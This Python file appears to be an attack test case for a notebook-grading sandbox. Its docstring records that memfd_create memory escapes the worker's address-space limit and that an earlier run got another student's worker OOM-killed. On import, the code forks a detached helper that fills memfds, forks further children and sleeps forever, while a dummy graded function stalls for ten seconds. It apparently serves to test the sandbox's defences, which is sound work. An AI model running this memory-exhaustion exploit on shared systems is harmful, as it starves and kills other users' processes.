"""Attack: hold far more memory than the worker's 192 MiB budget, outside its address space.

RLIMIT_AS bounds what a process maps; the private /tmp and /dev/shm are 64 MiB tmpfs. But
``memfd_create`` files are shmem that nobody maps: each may grow to RLIMIT_FSIZE (16 MiB) and a
process may hold RLIMIT_NOFILE (256) of them, times RLIMIT_NPROC (64) processes. A forked helper
process fills memfds until it holds HOG_MB, then sleeps; the first call waits 10 s so that the memory stays held while others are graded (at -j 2).
Measured: in a 3 GiB memory cgroup, a 6 GiB variant at -j 2 made the kernel OOM-kill the *other*
worker's sandbox first (it had the larger RSS; both have oom_score_adj 1000): the honest
notebook graded next to it lost points ("the student's process died"): 2.2 in one run, 0.8 in
another (tests/test_batch_attacks.py, DITGRADE_ATTACK_MEMCG=1).

What must hold instead: a worker cannot hold more than its memory budget (plus its tmpfs); other
students' workers are never OOM-killed because of it; everything is freed when it is stopped.
"""
import os
import time

HOG_MB = 1536


def _hog(mb: int) -> None:
    chunk = b"\x01" * (16 << 20)
    held, total = [], 0
    while total < mb << 20:
        if len(held) >= 240:  # RLIMIT_NOFILE: go on in a child process
            if os.fork() == 0:
                held = []
                continue
            break
        try:
            fd = os.memfd_create("hog")
            os.write(fd, chunk)
        except OSError:
            break
        held.append(fd)
        total += len(chunk)
    while True:
        time.sleep(3600)


def _start():
    try:
        pid = os.fork()
    except OSError:
        return 0
    if pid == 0:
        try:
            os.setsid()
            _hog(HOG_MB)
        finally:
            os._exit(0)
    return pid


_HOG = _start()


def sequence_length(h, w, p):
    time.sleep(10)  # hold the memory a while (under the idle limit), while others are graded
    return 0
